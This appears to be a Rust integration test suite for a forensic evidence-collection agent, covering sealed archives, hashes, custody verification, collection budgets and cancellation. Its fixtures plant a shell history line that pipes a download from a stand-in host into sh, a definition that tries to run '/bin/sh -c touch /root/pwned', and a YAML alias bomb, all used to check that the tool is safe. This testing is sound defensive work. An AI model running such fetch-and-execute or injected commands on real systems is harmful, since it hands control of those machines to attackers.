//! Evidence: collected on a machine that somebody made ready for it, sealed at the source, and looked into on the server.

use std::collections::HashMap;
use std::io::Write as _;
use std::os::unix::ffi::OsStrExt as _;
use std::path::Path;
use std::process::Command;

use quell_lab::site::{Machine, Programs, Site};
use quell_wire::digest::{hex, sha256};
use serde_json::{Value, json};

use crate::{ended, id, said, site, succeeded, until};

/// All entries of an archive, by path.
fn entries(site: &Site, artifact: &str) -> HashMap<String, Value> {
    let (mut all, mut cursor) = (HashMap::new(), String::new());
    loop {
        let page = site
            .api
            .get(&format!("/artifacts/{artifact}/entries?limit=500{cursor}"))
            .unwrap()
            .good()
            .unwrap();
        for item in page["items"].as_array().unwrap() {
            let path = item["path"].as_str().or(item["name"].as_str()).unwrap_or_default();
            all.insert(path.to_owned(), item.clone());
        }
        match page["next"].as_str() {
            Some(next) => cursor = format!("&cursor={next}"),
            None => return all,
        }
    }
}

fn collected(site: &Site, params: &Value) -> Value {
    let task = site.act("web-1", "endpoint.collect_evidence", params).unwrap();
    succeeded(&task);
    task
}

fn outcome(task: &Value) -> &Value {
    &task["commands"]["items"][0]["outcome"]
}

fn artifact(task: &Value) -> String {
    outcome(task)["archive"]["artifact_id"].as_str().unwrap().to_owned()
}

fn password(site: &Site, task: &Value) -> String {
    let answer =
        site.api.post(&format!("/tasks/{}/archive-password", id(task)), &json!({})).unwrap().good().unwrap();
    answer["password"].as_str().unwrap().to_owned()
}

/// Things that somebody leaves behind, and things that are left for whoever looks.
fn prepare(web: &Machine) {
    said(
        web,
        "cd /root && printf 'id\\ncurl http://192.0.2.9/x | sh\\n' > .bash_history && mkdir -p .ssh && printf key > \
         .ssh/authorized_keys && printf secret > .ssh/id_ed25519 && mkdir -p /tmp/ev/deep && cd /tmp/ev && mkfifo fifo && \
         ln -s . loop && ln -s nowhere broken && ln -s one one && truncate -s 9G sparse && mknod zero c 1 5 && printf line > \
         'new\nline' && printf x > CON && printf y > con && printf plain > deep/plain && printf s > setuid && chmod 4755 setuid \
         && ln deep/plain hard && ln hard hard2 && ln -s /proc/kmsg kernel && ln -s /etc/hostname named",
    );
    let odd = std::ffi::OsStr::from_bytes(b"not\xffutf8");
    std::fs::write(web.endpoint.path("/tmp/ev").join(odd), b"odd").unwrap();
}

#[test]
fn evidence_is_sealed_at_the_source_and_read_without_unpacking() {
    let Some(site) = site() else { return };
    let web = site.machine("web-1").unwrap();
    prepare(&web);
    let before = said(&web, "ls -la --time-style=full-iso --time=atime /root/.bash_history /tmp/ev/deep");
    let params =
        json!({ "artifacts": ["QuellTriageQuick", "LinuxTemporaryFiles"], "max_file_bytes": 4_000_000 });
    let task = collected(&site, &params);
    let (outcome, artifact) = (outcome(&task), artifact(&task));
    assert!(
        outcome["files"].as_u64().unwrap() > 30 && outcome["commands"].as_u64().unwrap() > 2,
        "{outcome:#}"
    );
    let all = entries(&site, &artifact);

    // What was found is what is there.
    let passwd = &all["/etc/passwd"];
    let index = passwd["index"].as_u64().unwrap();
    let file = site.api.get(&format!("/artifacts/{artifact}/entries/{index}")).unwrap();
    assert_eq!(file.bytes, std::fs::read(web.endpoint.path("/etc/passwd")).unwrap());
    assert_eq!(passwd["sha256"], hex(&sha256(&[&file.bytes])));
    let history = &all["/root/.bash_history"];
    let preview = format!("/artifacts/{artifact}/entries/{}/preview?offset=3&length=4", history["index"]);
    let preview = site.api.get(&preview).unwrap().good().unwrap();
    assert_eq!((&preview["text"], &preview["is_text"]), (&json!("curl"), &json!(true)), "{preview}");
    assert!(
        all.contains_key("/tmp/ev/new\nline"),
        "{:?}",
        all.keys().filter(|k| k.contains("ev")).collect::<Vec<_>>()
    );
    assert!(all.keys().any(|path| path.starts_with("/tmp/ev/not")));
    assert!(all["/tmp/ev/setuid"]["mode"].as_str().unwrap().ends_with("4755"));
    // Keys are named, and stay where they are.
    assert!(!all.contains_key("/root/.ssh/id_ed25519"), "{:#}", all["/root/.ssh/id_ed25519"]);
    // What leads nowhere, or too far, is named with its reason.
    for (path, reason) in [
        ("/tmp/ev/fifo", "is_fifo"),
        ("/tmp/ev/zero", "is_device"),
        ("/tmp/ev/sparse", "too_large"),
        ("/tmp/ev/one", "link_loop"),
        ("/tmp/ev/broken", "vanished"),
        ("/tmp/ev/kernel", "is_pseudo"),
    ] {
        assert!(
            all.contains_key(path),
            "{path} in {:?}",
            all.keys().filter(|path| path.contains("/ev/")).collect::<Vec<_>>()
        );
        assert_eq!(all[path]["reason"], reason, "{path}: {:#}", all[path]);
        assert!(all[path]["index"].is_null());
    }
    let twins = [&all["/tmp/ev/hard"], &all["/tmp/ev/hard2"]];
    assert_eq!(
        twins.iter().filter(|twin| twin["reason"] == "same_as_other").count(),
        1,
        "one content, once: {twins:#?}"
    );
    assert_eq!(
        before,
        said(&web, "ls -la --time-style=full-iso --time=atime /root/.bash_history /tmp/ev/deep")
    );
    // Pages and filters show the same.
    let few = site
        .api
        .get(&format!("/artifacts/{artifact}/entries?text=BASH_HISTORY&present=true"))
        .unwrap()
        .good()
        .unwrap();
    assert_eq!(few["items"].as_array().unwrap().len(), 1, "{few:#}");

    unpacked(&site, &task, &all);
    custody(&site, &task, &artifact);
}

/// 7-Zip opens it on any system, and finds what the manifest says.
fn unpacked(site: &Site, task: &Value, all: &HashMap<String, Value>) {
    if Command::new("7z").arg("i").output().is_err() {
        println!("skipped: 7z is not installed");
        return;
    }
    let folder = site.folder.path().join("unpacked");
    let archive = site.folder.path().join("evidence.zip");
    let bytes = site.api.get(&format!("/artifacts/{}/content", artifact(task))).unwrap().bytes;
    std::fs::write(&archive, bytes).unwrap();
    let password = format!("-p{}", password(site, task));
    let out = format!("-o{}", folder.display());
    let done = Command::new("7z").args(["x", "-y", &password, &out]).arg(&archive).output().unwrap();
    assert!(done.status.success(), "{}", String::from_utf8_lossy(&done.stdout));
    let mut compared = 0;
    for entry in all.values().filter(|entry| !entry["index"].is_null() && entry["sha256"].is_string()) {
        let path = folder.join(entry["name"].as_str().unwrap());
        let bytes = std::fs::read(&path).unwrap_or_else(|error| panic!("{}: {error}", path.display()));
        assert_eq!(entry["sha256"], hex(&sha256(&[&bytes])), "{}", path.display());
        compared += 1;
    }
    assert!(compared > 30, "{compared}");
    let manifest: Value =
        serde_json::from_slice(&std::fs::read(folder.join("manifest.json")).unwrap()).unwrap();
    assert_eq!(manifest["order_id"], task["commands"]["items"][0]["id"]);
    let commands = manifest["commands"].as_array().unwrap();
    let ps = commands.iter().find(|row| row["asked_by"] == "LinuxProcessListCommand#0");
    assert_eq!(ps.unwrap()["exit_code"], 0, "{commands:#?}");
    for row in commands {
        println!("{} {}: {} ms", row["program"], row["exit_code"], row["duration_ms"]);
    }
}

/// Who looked at it is known, and everything is verified from two files and a password.
fn custody(site: &Site, task: &Value, artifact: &str) {
    let path = format!("/artifacts/{artifact}/custody");
    let mut custody = Value::Null;
    until("a receipt", || {
        custody = site.api.get(&path).unwrap().good().unwrap();
        custody["receipt"].is_object()
    });
    let verbs: Vec<&str> =
        custody["accesses"].as_array().unwrap().iter().filter_map(|one| one["verb"].as_str()).collect();
    for verb in [
        "artifact.store",
        "artifact.browse",
        "artifact.entry.download",
        "artifact.entry.view",
        "artifact.download",
        "archive_password.read",
    ] {
        assert!(verbs.contains(&verb), "{verb} in {verbs:?}");
    }
    assert_eq!(custody["seal"]["sha256"], custody["sha256"]);
    let folder = site.folder.path();
    let bytes = site.api.get(&format!("/artifacts/{artifact}/content")).unwrap().bytes;
    std::fs::write(folder.join("whole.zip"), &bytes).unwrap();
    std::fs::write(folder.join("custody.json"), custody.to_string()).unwrap();
    std::fs::write(folder.join("password"), password(site, task)).unwrap();
    let verified = |file: &str, custody: &str, more: &[&str]| {
        let program = Programs::of_this_build().unwrap().server;
        let mut command = Command::new(program);
        command
            .args(["artifacts", "verify", file, "--receipt", custody, "--password-file", "password"])
            .args(more);
        let output = command.current_dir(folder).output().unwrap();
        (
            output.status.success(),
            String::from_utf8_lossy(&output.stdout).into_owned() + &String::from_utf8_lossy(&output.stderr),
        )
    };
    let key = custody["receipt"]["key"].as_str().unwrap();
    let (holds, said) = verified("whole.zip", "custody.json", &["--key", key]);
    assert!(
        holds
            && said.contains("content holds")
            && said.contains("receipt holds")
            && said.contains("accesses not proven"),
        "{said}"
    );
    let (holds, said) = verified("whole.zip", "custody.json", &["--key", &"0".repeat(64)]);
    assert!(!holds && said.contains("another key"), "{said}");
    // One byte of the archive, one of the record, one of the outcome: each is noticed.
    let mut other = bytes;
    let at = other.len() / 2;
    other[at] ^= 1;
    std::fs::File::create(folder.join("other.zip")).unwrap().write_all(&other).unwrap();
    assert!(!verified("other.zip", "custody.json", &[]).0);
    for part in
        ["/receipt/record", "/receipt/checkpoint", "/seal/outcome", "/seal/signature", "/receipt/proof/0"]
    {
        let mut forged = custody.clone();
        let Some(value) = forged.pointer_mut(part) else { continue };
        let text = value.as_str().unwrap();
        *value = Value::from(format!("{}{}", if text.starts_with('0') { '1' } else { '0' }, &text[1..]));
        std::fs::write(folder.join("forged.json"), forged.to_string()).unwrap();
        assert!(!verified("whole.zip", "forged.json", &[]).0, "{part}");
    }
}

#[test]
fn budgets_end_a_collection_and_nonsense_is_refused() {
    let Some(site) = site() else { return };
    let web = site.machine("web-1").unwrap();
    said(
        &web,
        "mkdir -p /tmp/many && cd /tmp/many && for i in $(seq 1 300); do echo $i > f$i; done; head -c 3000000 /dev/urandom > big",
    );
    let few = collected(&site, &json!({ "artifacts": ["LinuxTemporaryFiles"], "max_files": 5 }));
    let few = outcome(&few);
    assert_eq!((few["files"].as_u64(), few["ended_by"].as_str()), (Some(5), Some("files")), "{few:#}");
    let little = collected(&site, &json!({ "artifacts": ["LinuxTemporaryFiles"], "max_bytes": 100_000 }));
    let little = outcome(&little);
    assert!(little["bytes"].as_u64().unwrap() <= 100_000 && little["ended_by"] == "bytes", "{little:#}");
    assert!(little["files"].as_u64().unwrap() >= 300, "the small ones are there: {little:#}");
    let quiet = collected(
        &site,
        &json!({ "artifacts": ["LinuxProcessListCommand", "LinuxHostsFiles"], "include_commands": false }),
    );
    assert_eq!(outcome(&quiet)["commands"], 0);

    let refused = |params: &Value, code: &str| {
        let task = site.act("web-1", "endpoint.collect_evidence", params).unwrap();
        assert_eq!(ended(&task), ("refused", code), "{task:#}");
        task["commands"]["items"][0]["message"].as_str().unwrap_or_default().to_owned()
    };
    let said_ = refused(&json!({ "artifacts": ["LinuxShellHistorys"] }), "unknown_definition");
    assert!(said_.contains("LinuxShellHistory?"), "{said_}");
    for params in [
        json!({ "artifacts": [] }),
        json!({ "artifacts": ["a\nb"] }),
        json!({ "max_bytes": 0 }),
        json!({ "max_files": 1_000_000 }),
        json!({ "no_such": 1 }),
    ] {
        let body = json!({ "action": "endpoint.collect_evidence", "params": params, "reason": "x",
            "targets": { "endpoints": ["web-1"] } });
        let answer = site.api.post("/tasks", &body).unwrap();
        assert!((400..500).contains(&answer.status), "{params}: {}", answer.json());
    }
}

/// What a customer writes, or takes over from others, is read as the pack that comes with the agent is.
#[test]
fn definitions_of_the_library_are_carried_out_and_files_of_one_collection_are_looked_into() {
    let Some(site) = site() else { return };
    let web = site.machine("web-1").unwrap();
    said(
        &web,
        "mkdir -p /srv/app/a/b && echo conf > /srv/app/a/b/app.conf && echo other > /srv/app/a/b/app.txt",
    );
    let own_definitions = "name: OurApp\ndoc: Ours.\nsources:\n- type: FILE\n  attributes: {paths: ['/srv/app/**5/*.conf']}\n\
        - type: COMMAND\n  attributes: {cmd: /bin/sh, args: [-c, 'touch /root/pwned']}\n- type: COMMAND\n  attributes: {cmd: \
        /tmp/uname, args: [-a]}\n- type: REGISTRY_KEY\n  attributes: {keys: ['HKLM']}\nsupported_os: [Linux]\n";
    let item = json!({ "name": "ours", "body": own_definitions });
    site.api.post("/library/evidence", &item).unwrap().good().unwrap();
    let task = collected(&site, &json!({ "artifacts": ["OurApp"], "definitions": "ours" }));
    assert_eq!(outcome(&task)["definitions_sha256"], hex(&sha256(&[own_definitions.as_bytes()])));
    let all = entries(&site, &artifact(&task));
    assert!(!all["/srv/app/a/b/app.conf"]["index"].is_null());
    assert!(!all.contains_key("/srv/app/a/b/app.txt"));
    assert!(!web.endpoint.path("/root/pwned").exists(), "a definition chooses no program");
    // The real one of the system ran, not the one that the definition's path means.
    assert!(all.contains_key("/usr/bin/uname -a") || all.contains_key("/bin/uname -a"), "{:?}", all.keys());
    assert_eq!(outcome(&task)["commands"], 1);

    let bomb = json!({ "name": "bomb", "body": "a: &a [x]\nb: [*a, *a]\n" });
    let answer = site.api.post("/library/evidence", &bomb).unwrap();
    println!("the library says of a bomb: {} {}", answer.status, answer.json());
    let unknown = json!({ "action": "endpoint.collect_evidence", "params": { "definitions": "nobody" }, "reason": "x",
        "targets": { "endpoints": ["web-1"] } });
    assert!((400..500).contains(&site.api.post("/tasks", &unknown).unwrap().status));

    // An archive of another action is looked into the same way.
    let task = site.act("web-1", "file.collect", &json!({ "path": "/srv/app/a/b/app.conf" })).unwrap();
    let archive = artifact(&task);
    let all = entries(&site, &archive);
    let index = &all["app.conf"]["index"];
    let file = site.api.get(&format!("/artifacts/{archive}/entries/{index}")).unwrap();
    assert_eq!(file.bytes, b"conf\n");
    let full = std::time::Instant::now();
    let task = collected(&site, &json!({ "artifacts": ["QuellTriageFull"] }));
    let peak =
        std::fs::read_to_string(format!("/proc/{}/status", web.agent_pid().unwrap())).unwrap_or_default();
    let peak = peak.lines().find(|line| line.starts_with("VmHWM")).unwrap_or("VmHWM unknown").to_owned();
    println!("QuellTriageFull: {:?} in all, agent {peak}, {:#}", full.elapsed(), outcome(&task));
}

#[test]
fn a_cancel_leaves_nothing() {
    let Some(site) = site() else { return };
    let web = site.machine("web-1").unwrap();
    said(
        &web,
        "mkdir -p /tmp/slow && head -c 400000000 /dev/urandom > /tmp/slow/a && cp /tmp/slow/a /tmp/slow/b",
    );
    let params = json!({ "artifacts": ["LinuxTemporaryFiles"], "max_file_bytes": 1_000_000_000, "max_bytes": 2_000_000_000 });
    let task = site.submit("web-1", "endpoint.collect_evidence", &params).unwrap();
    let work = web.endpoint.path(Path::new(quell_lab::site::STATE).join("work"));
    let archive = || -> u64 {
        let orders = std::fs::read_dir(&work).into_iter().flatten().flatten();
        orders
            .filter_map(|order| std::fs::metadata(order.path().join("archive.zip")).ok())
            .map(|facts| facts.len())
            .sum()
    };
    until("a part of the archive", || archive() > 1_000_000);
    site.api.post(&format!("/tasks/{}/cancel", id(&task)), &Value::Null).unwrap().good().unwrap();
    let task = site.ended(&task).unwrap();
    assert_eq!(ended(&task).0, "canceled", "{task:#}");
    until("an empty work directory", || archive() == 0);
    let stored = site.api.get(&format!("/artifacts?task={}", id(&task))).unwrap().good().unwrap();
    assert_eq!(stored["items"], json!([]));
}

/// A disk without room, one that cannot be written, a file that grows under the reading, and many of them (each costs two
/// milliseconds for its key alone: the format derives one for each entry).
#[test]
fn strange_disks_and_files_are_reasons_in_the_manifest() {
    let Some(site) = site() else { return };
    let web = site.machine("web-1").unwrap();
    let work = Path::new(quell_lab::site::STATE).join("work");
    said(
        &web,
        "mkdir -p /tmp/many /srv/fixed && cd /tmp/many && seq 2000 | split -l 1 -a 4 && mount -t tmpfs none /srv/fixed && \
         echo fixed > /srv/fixed/a && mount -o remount,ro /srv/fixed && echo start > /srv/grows && \
         (setsid sh -c 'while [ ! -e /srv/enough ]; do head -c 65536 /dev/zero >> /srv/grows; done' >/dev/null 2>&1 &)",
    );
    let definitions = "name: Strange\nsources:\n- type: FILE\n  attributes: {paths: ['/srv/fixed/*', '/srv/grows', '/tmp/many/*']}\n";
    let item = json!({ "name": "strange", "body": definitions });
    site.api.post("/library/evidence", &item).unwrap().good().unwrap();
    let params = json!({ "artifacts": ["Strange"], "definitions": "strange" });
    until("a file that grew", || {
        std::fs::metadata(web.endpoint.path("/srv/grows")).unwrap().len() > 5_000_000
    });
    let began = std::time::Instant::now();
    let task = collected(&site, &params);
    said(&web, "touch /srv/enough");
    let facts = outcome(&task);
    println!("2,000 files: {:?}, {} bytes", began.elapsed(), facts["bytes"]);
    assert_eq!(facts["files"], 2002, "{facts:#}");
    let all = entries(&site, &artifact(&task));
    assert!(!all["/srv/fixed/a"]["index"].is_null(), "a file of a read-only file system is read as any");
    let grows = &all["/srv/grows"];
    assert!(grows["changed"] == true || grows["truncated"] == true, "{grows:#}");
    let digest = all["/tmp/many/xaaab"]["sha256"].as_str().unwrap();
    assert_eq!(digest, hex(&sha256(&[b"2\n"])));

    // No room where the archive is made: what does not fit is named, and the rest comes.
    said(
        &web,
        &format!(
            "mkdir -p {0} && mount -t tmpfs -o size=110m none {0} && rm /tmp/many/* && head -c 60000000 /dev/urandom > \
             /tmp/many/large && echo small > /tmp/many/small",
            work.display()
        ),
    );
    let task = collected(&site, &params);
    let all = entries(&site, &artifact(&task));
    assert_eq!(all["/tmp/many/large"]["reason"], "disk_full", "{:#}", all["/tmp/many/large"]);
    assert!(!all["/tmp/many/small"]["index"].is_null(), "{:#}", all["/tmp/many/small"]);
    assert!(
        outcome(&task)["left_out"].as_array().unwrap().iter().any(|left| left["reason"] == "disk_full"),
        "{:#}",
        outcome(&task)
    );
}
